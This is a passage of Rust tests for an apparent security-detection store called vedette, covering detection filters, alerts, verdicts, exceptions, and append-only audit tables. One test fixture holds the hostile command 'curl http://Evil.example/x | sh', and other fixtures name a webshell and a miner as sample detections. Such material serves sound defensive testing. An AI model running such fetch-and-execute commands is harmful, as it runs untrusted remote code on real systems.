    both("detection_filters", |s, _| {
        s.create_token(&token("h", 0, i64::MAX, 1, "default"))
            .unwrap();
        s.enroll("h", "a", "host", 1).unwrap().unwrap();
        let file = |id: &str, rule: &str, path: &str| Detection {
            rule: rule.into(),
            target: Some(detection::Target::File(FileTarget {
                path: path.into(),
                sha256: format!("{:064x}", path.len()),
                md5: format!("{:032x}", path.len()),
                ..Default::default()
            })),
            ..detection(id)
        };
        let process = Detection {
            id: "p".into(),
            kind: vedette_proto::v1::DetectionKind::Process as i32,
            rule: "shell".into(),
            target: Some(detection::Target::Process(
                vedette_proto::v1::ProcessTarget {
                    exe: "/usr/bin/curl".into(),
                    cmdline: "curl http://Evil.example/x | sh".into(),
                    ..Default::default()
                },
            )),
            ..Default::default()
        };
        s.insert_detections("a", &[file("f1", "webshell", "/var/www/a.php")], 100)
            .unwrap();
        s.insert_detections("a", &[file("f2", "miner", "/tmp/xmrig")], 200)
            .unwrap();
        s.insert_detections("a", &[process], 300).unwrap();
        let ids = |f: DetectionFilter| -> Vec<String> {
            s.list_detections(&DetectionFilter {
                limit: 10,
                max_bytes: usize::MAX,
                ..f
            })
            .unwrap()
            .detections
            .iter()
            .map(|d| d.detection.as_ref().unwrap().id.clone())
            .collect()
        };
        assert_eq!(
            ids(DetectionFilter {
                kind: Some(vedette_proto::v1::DetectionKind::Process as i32),
                ..Default::default()
            }),
            ["p"]
        );
        assert_eq!(
            ids(DetectionFilter {
                rule: Some("miner".into()),
                ..Default::default()
            }),
            ["f2"]
        );
        // By MD5 too, and by the agent's host name.
        assert_eq!(
            ids(DetectionFilter {
                md5: Some(format!("{:032x}", 10)),
                ..Default::default()
            }),
            ["f2"]
        );
        assert_eq!(
            ids(DetectionFilter {
                host: Some("host".into()),
                ..Default::default()
            })
            .len(),
            3
        );
        assert!(
            ids(DetectionFilter {
                host: Some("other".into()),
                ..Default::default()
            })
            .is_empty()
        );
        // "/tmp/xmrig" is 10 bytes long: its made-up digest is 10 in hex.
        assert_eq!(
            ids(DetectionFilter {
                sha256: Some(format!("{:064x}", 10)),
                ..Default::default()
            }),
            ["f2"]
        );
        assert!(
            ids(DetectionFilter {
                sha256: Some(format!("{:064x}", 11)),
                ..Default::default()
            })
            .is_empty()
        );
        assert_eq!(
            ids(DetectionFilter {
                since_ms: Some(150),
                until_ms: Some(300),
                ..Default::default()
            }),
            ["f2"]
        );
        // Text: path, or command line, in any case.
        assert_eq!(
            ids(DetectionFilter {
                text: Some("WWW".into()),
                ..Default::default()
            }),
            ["f1"]
        );
        assert_eq!(
            ids(DetectionFilter {
                text: Some("evil.EXAMPLE".into()),
                ..Default::default()
            }),
            ["p"]
        );
        assert!(
            ids(DetectionFilter {
                text: Some("nowhere".into()),
                ..Default::default()
            })
            .is_empty()
        );
    });
}

#[test]
fn console_accounts_are_created_updated_and_removed() {
    both("users", |s, reopen| {
        let alice = UserRow {
            name: "alice".into(),
            password_hash: "$argon2id$one".into(),
            roles: "operator".into(),
            org: String::new(),
            created_at_ms: 7,
        };
        assert!(s.put_user(&alice).unwrap());
        let changed = UserRow {
            password_hash: "$argon2id$two".into(),
            org: "cert-fr".into(),
            ..alice.clone()
        };
        assert!(!s.put_user(&changed).unwrap());
        let got = reopen().user("alice").unwrap().unwrap();
        assert_eq!(got.password_hash, "$argon2id$two");
        assert_eq!(got.org, "cert-fr");
        assert_eq!(got.created_at_ms, 7);
        assert_eq!(s.user("bob").unwrap(), None);
        assert_eq!(s.list_users().unwrap().len(), 1);
        assert!(s.remove_user("alice").unwrap());
        assert!(!s.remove_user("alice").unwrap());
        assert!(s.list_users().unwrap().is_empty());
    });
}

/// A column's kind in words both stores share: SQLite's declared types and PostgreSQL's
/// `data_type`s as the migrations write them (a boolean is an integer in SQLite).
fn common_kind(kind: &str) -> String {
    match kind.to_ascii_lowercase().as_str() {
        "integer" | "bigint" | "boolean" | "smallint" => "integer".into(),
        "text" | "character varying" => "text".into(),
        "blob" | "bytea" => "bytes".into(),
        other => format!("unknown kind `{other}`"),
    }
}

/// Each table's columns by name, in common kinds.
fn comparable(schema: &Schema) -> BTreeMap<String, BTreeMap<String, String>> {
    schema
        .iter()
        .map(|(table, columns)| {
            let columns = columns
                .iter()
                .map(|(name, kind)| (name.clone(), common_kind(kind)))
                .collect();
            (table.clone(), columns)
        })
        .collect()
}

#[test]
fn both_stores_have_the_same_tables_columns_and_kinds() {
    let dir = tempfile::tempdir().unwrap();
    let sqlite = open(&StoreLocation::Sqlite(dir.path().join("db")))
        .unwrap()
        .schema()
        .unwrap();
    let sqlite = comparable(&sqlite);
    for (table, columns) in &sqlite {
        for (column, kind) in columns {
            assert!(
                !kind.starts_with("unknown"),
                "sqlite {table}.{column}: {kind}"
            );
        }
    }
    assert!(
        sqlite.contains_key("detections") && sqlite.len() >= 10,
        "{sqlite:?}"
    );
    let Some(db) = vedette_tests::PgDb::create("schema") else {
        return;
    };
    let pg = StoreLocation::Postgres {
        url: db.url.clone(),
        ca_cert: None,
    };
    let pg = comparable(&open(&pg).unwrap().schema().unwrap());
    let tables: std::collections::BTreeSet<&String> = sqlite.keys().chain(pg.keys()).collect();
    let mut drift = Vec::new();
    for table in tables {
        let (a, b) = (sqlite.get(table), pg.get(table));
        let columns: std::collections::BTreeSet<&String> =
            a.into_iter().chain(b).flat_map(|c| c.keys()).collect();
        for column in columns {
            let kinds = (a.and_then(|c| c.get(column)), b.and_then(|c| c.get(column)));
            if kinds.0 != kinds.1 {
                drift.push(format!(
                    "{table}.{column}: SQLite {:?}, PostgreSQL {:?}",
                    kinds.0, kinds.1
                ));
            }
        }
    }
    assert!(
        drift.is_empty(),
        "the stores' schemas differ:\n{}",
        drift.join("\n")
    );
}

#[test]
fn the_audit_log_refuses_changes_and_deletions_in_both_stores() {
    let entry = AuditRow {
        at_ms: 1,
        actor: "cert:operator".into(),
        action: "token.create".into(),
        outcome: "ok".into(),
        ..AuditRow::default()
    };
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("db");
    open(&StoreLocation::Sqlite(path.clone()))
        .unwrap()
        .record_audit(&entry)
        .unwrap();
    let conn = rusqlite::Connection::open(&path).unwrap();
    for sql in ["UPDATE audit SET outcome = 'refused'", "DELETE FROM audit"] {
        let e = conn.execute(sql, []).unwrap_err();
        assert!(e.to_string().contains("append-only"), "{sql}: {e}");
    }
    if let Some(db) = vedette_tests::PgDb::create("audit_append_only") {
        let pg = StoreLocation::Postgres {
            url: db.url.clone(),
            ca_cert: None,
        };
        open(&pg).unwrap().record_audit(&entry).unwrap();
        let mut client = ::postgres::Client::connect(&db.url, ::postgres::NoTls).unwrap();
        for sql in ["UPDATE audit SET outcome = 'refused'", "DELETE FROM audit"] {
            let e = client.batch_execute(sql).unwrap_err();
            let text = e
                .as_db_error()
                .map(|d| d.message().to_string())
                .unwrap_or_default();
            assert!(text.contains("append-only"), "{sql}: {e}");
        }
        let n: i64 = client
            .query_one("SELECT COUNT(*) FROM audit", &[])
            .unwrap()
            .get(0);
        assert_eq!(n, 1);
    }
    assert_eq!(
        conn.query_row("SELECT COUNT(*) FROM audit", [], |r| r.get::<_, i64>(0))
            .unwrap(),
        1
    );
}

/// A detection of the file with SHA-256 `sha` at `path`, observed at `at`.
fn file_seen(id: &str, rule: &str, path: &str, sha: &str, at: i64) -> Detection {
    Detection {
        id: id.into(),
        kind: 1,
        rule: rule.into(),
        observed_at_ms: at,
        score: 70,
        target: Some(detection::Target::File(FileTarget {
            path: path.into(),
            sha256: sha.into(),
            ..Default::default()
        })),
        ..Default::default()
    }
}

fn enrolled(s: &dyn Store, org: &str, agents: &[&str]) {
    let t = format!("tok-{org}");
    s.create_token(&token(&t, 0, i64::MAX, 100, org)).unwrap();
    for a in agents {
        s.enroll(&t, a, &format!("host-{a}"), 1).unwrap().unwrap();
    }
}

#[test]
fn detections_group_into_alerts_by_organisation_rule_and_subject_as_they_are_stored() {
    both("alerts", |s, _| {
        let alpha = OrgRow {
            name: "alpha".into(),
            stix_id: crate::orgs::new_stix_id(),
            share: "full".into(),
            tlp: "amber".into(),
            ..Default::default()
        };
        s.create_org(&alpha).unwrap();
        enrolled(&*s, "default", &["d1", "d2", "d3"]);
        enrolled(&*s, "alpha", &["a1", "a2"]);
        let h = "a".repeat(64);
        // Out of order in time: first and last seen still widen both ways.
        s.insert_detections("d1", &[file_seen("1", "R", "/x", &h, 500)], 10)
            .unwrap();
        s.insert_detections("d2", &[file_seen("2", "R", "/y", &h, 100)], 11)
            .unwrap();
        s.insert_detections(
            "d1",
            &[
                file_seen("3", "R", "/z", &h, 900),
                file_seen("1", "R", "/x", &h, 500),
            ],
            12,
        )
        .unwrap();
        s.insert_detections("a1", &[file_seen("4", "R", "/x", &h, 300)], 13)
            .unwrap();
        // No hash: grouped by path. Another rule: another alert.
        s.insert_detections("d3", &[file_seen("5", "R", "/nohash", "", 50)], 14)
            .unwrap();
        s.insert_detections("d3", &[file_seen("6", "Other", "/x", &h, 50)], 15)
            .unwrap();
        let all = s
            .list_alerts(&AlertFilter {
                limit: 100,
                ..Default::default()
            })
            .unwrap();
        assert_eq!(all.len(), 4, "{all:?}");
        assert_eq!(all[0].rule, "Other", "newest activity first");
        let file = |org: &str| {
            all.iter()
                .find(|a| a.org == org && a.rule == "R" && a.subject.starts_with("sha256:"))
                .unwrap()
                .clone()
        };
        let d = file("default");
        assert_eq!(
            (d.detections, d.hosts, d.first_seen_ms, d.last_seen_ms),
            (3, 2, 100, 900),
            "a resend is not counted again; {d:?}"
        );
        assert_eq!(d.status, "open");
        assert_eq!(d.subject, format!("sha256:{h}"));
        assert_eq!((file("alpha").detections, file("alpha").hosts), (1, 1));
        assert!(all.iter().any(|a| a.subject == "path:/nohash"));
        let only_alpha = s
            .list_alerts(&AlertFilter {
                org: Some("alpha".into()),
                limit: 100,
                ..Default::default()
            })
            .unwrap();
        assert_eq!(only_alpha.len(), 1);
        // A page: below the last one seen.
        let page = s
            .list_alerts(&AlertFilter {
                limit: 2,
                ..Default::default()
            })
            .unwrap();
        let next = s
            .list_alerts(&AlertFilter {
                limit: 100,
                before_seq: Some(page[1].last_seq),
                ..Default::default()
            })
            .unwrap();
        assert_eq!(page.len() + next.len(), 4);
        // Each detection knows its alert.
        let listed = s
            .list_detections(&DetectionFilter {
                alert_id: Some(d.id),
                limit: 100,
                max_bytes: usize::MAX,
                ..Default::default()
            })
            .unwrap();
        assert_eq!(listed.detections.len(), 3);
        assert!(listed.detections.iter().all(|x| x.alert_id == d.id));
        assert!(listed.detections.iter().all(|x| x.alert_status == "open"));

        // Verdicts: kept in order with who and why; a true positive flags new activity, a
        // false positive stays closed.
        let judge = |status: &str, note: &str, at: i64| {
            s.judge_alert(&VerdictRow {
                alert_id: d.id,
                at_ms: at,
                actor: "cert:operator".into(),
                status: status.into(),
                note: note.into(),
                ..Default::default()
            })
            .unwrap()
            .unwrap()
        };
        assert_eq!(judge("true-positive", "seen", 20).status, "true-positive");
        s.insert_detections("d3", &[file_seen("7", "R", "/w", &h, 1000)], 21)
            .unwrap();
        let again = s.alert(d.id).unwrap().unwrap();
        assert_eq!(
            (again.status.as_str(), again.new_activity, again.hosts),
            ("true-positive", true, 3)
        );
        let fp = judge("false-positive", "packer", 22);
        assert!(!fp.new_activity, "a verdict clears it");
        s.insert_detections("d3", &[file_seen("8", "R", "/v", &h, 1001)], 23)
            .unwrap();
        let closed = s.alert(d.id).unwrap().unwrap();
        assert_eq!(
            (closed.status.as_str(), closed.new_activity),
            ("false-positive", false)
        );
        let history = s.alert_verdicts(d.id).unwrap();
        let seen: Vec<(&str, &str)> = history
            .iter()
            .map(|v| (v.status.as_str(), v.note.as_str()))
            .collect();
        assert_eq!(
            seen,
            [("true-positive", "seen"), ("false-positive", "packer")]
        );
        // The feedback sinks read them in order after a cursor.
        assert_eq!(s.verdicts_after(0, 10).unwrap(), history);
        assert_eq!(s.verdicts_after(history[0].seq, 10).unwrap(), history[1..]);
        assert!(s.alert(999_999).unwrap().is_none());
        assert!(
            s.judge_alert(&VerdictRow {
                alert_id: 999_999,
                status: "benign".into(),
                ..Default::default()
            })
            .unwrap()
            .is_none()
        );
    });
}

#[test]
fn exceptions_mark_what_they_cover_from_the_moment_they_are_added_until_they_expire() {
    both("exceptions", |s, _| {
        enrolled(&*s, "default", &["d1"]);
        let h = "b".repeat(64);
        let ex = |id: &str, expires: i64, org: &str| ExceptionRow {
            ex: vedette_engine::exceptions::Exception {
                id: id.into(),
                rule: "R".into(),
                sha256: h.clone(),
                org: org.into(),
                expires_at_ms: expires,
                reason: "packer".into(),
                ..Default::default()
            },
            created_at_ms: 1,
            created_by: "cert:operator".into(),
            ..Default::default()
        };
        // Another organisation's exception covers nothing here.
        s.add_exception(&ex("ex-other", 0, "alpha")).unwrap();
        s.insert_detections("d1", &[file_seen("1", "R", "/a", &h, 1)], 10)
            .unwrap();
        s.add_exception(&ex("ex-1", 1_000, "default")).unwrap();
        s.insert_detections(
            "d1",
            &[
                file_seen("2", "R", "/b", &h, 2),
                file_seen("3", "R", "/c", &"c".repeat(64), 3),
            ],
            500,
        )
        .unwrap();
        // Expired by the time this one arrives.
        s.insert_detections("d1", &[file_seen("4", "R", "/d", &h, 4)], 1_000)
            .unwrap();
        let list = |suppressed: bool| {
            s.list_detections(&DetectionFilter {
                suppressed,
                limit: 100,
                max_bytes: usize::MAX,
                ..Default::default()
            })
            .unwrap()
            .detections
        };
        let shown: Vec<String> = list(false)
            .iter()
            .map(|d| d.detection.as_ref().unwrap().id.clone())
            .collect();
        assert_eq!(shown, ["1", "3", "4"], "hidden unless asked for");
        let all = list(true);
        let marked = all
            .iter()
            .find(|d| d.detection.as_ref().unwrap().id == "2")
            .unwrap();
        assert_eq!((marked.exception_id.as_str(), marked.alert_id), ("ex-1", 0));
        let alert = s
            .list_alerts(&AlertFilter {
                limit: 10,
                ..Default::default()
            })
            .unwrap()
            .into_iter()
            .find(|a| a.subject == format!("sha256:{h}"))
            .unwrap();
        assert_eq!(alert.detections, 2, "the suppressed one does not count");
        // Exported only when not covered.
        let exported = s.detections_after(0, i64::MAX, 100).unwrap();
        assert_eq!(exported.len(), 4);
        assert!(exported.iter().any(|(_, d)| d.exception_id == "ex-1"));

        // Removed: listed as removed, by whom; covers nothing from then on.
        let removed = s
            .remove_exception("ex-other", "cert:x", 600)
            .unwrap()
            .unwrap();
        assert_eq!(
            (removed.removed_at_ms, removed.removed_by.as_str()),
            (600, "cert:x")
        );
        let again = s
            .remove_exception("ex-other", "cert:y", 700)
            .unwrap()
            .unwrap();
        assert_eq!(again.removed_by, "cert:x", "removed once");
        assert!(s.remove_exception("nope", "cert:x", 1).unwrap().is_none());
        let rows = s.list_exceptions().unwrap();
        assert_eq!(rows.len(), 2);
        assert!(rows.iter().all(|r| !r.active(1_000)));
    });
}

#[test]
fn the_verdict_history_refuses_changes_and_deletions_in_both_stores() {
    let verdict = VerdictRow {
        alert_id: 1,
        at_ms: 1,
        actor: "cert:operator".into(),
        status: "benign".into(),
        ..Default::default()
    };
    let check = |s: &dyn Store, exec: &mut dyn FnMut(&str) -> String| {
        enrolled(s, "default", &["d1"]);
        s.insert_detections("d1", &[file_seen("1", "R", "/a", "", 1)], 1)
            .unwrap();
        s.judge_alert(&verdict).unwrap().unwrap();
        for sql in [
            "UPDATE alert_verdicts SET note = 'x'",
            "DELETE FROM alert_verdicts",
        ] {
            assert!(exec(sql).contains("append-only"), "{sql}");
        }
        assert_eq!(s.alert_verdicts(1).unwrap().len(), 1);
    };
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("db");
    let store = open(&StoreLocation::Sqlite(path.clone())).unwrap();
    let conn = rusqlite::Connection::open(&path).unwrap();
    check(&*store, &mut |sql| {
        conn.execute(sql, []).unwrap_err().to_string()
    });
    if let Some(db) = vedette_tests::PgDb::create("verdicts_append_only") {
        let pg = StoreLocation::Postgres {
            url: db.url.clone(),
            ca_cert: None,
        };
        let store = open(&pg).unwrap();
        let mut client = ::postgres::Client::connect(&db.url, ::postgres::NoTls).unwrap();
        check(&*store, &mut |sql| {
            let e = client.batch_execute(sql).unwrap_err();
            e.as_db_error()
                .map(|d| d.message().to_string())
                .unwrap_or_default()
        });
    }
}
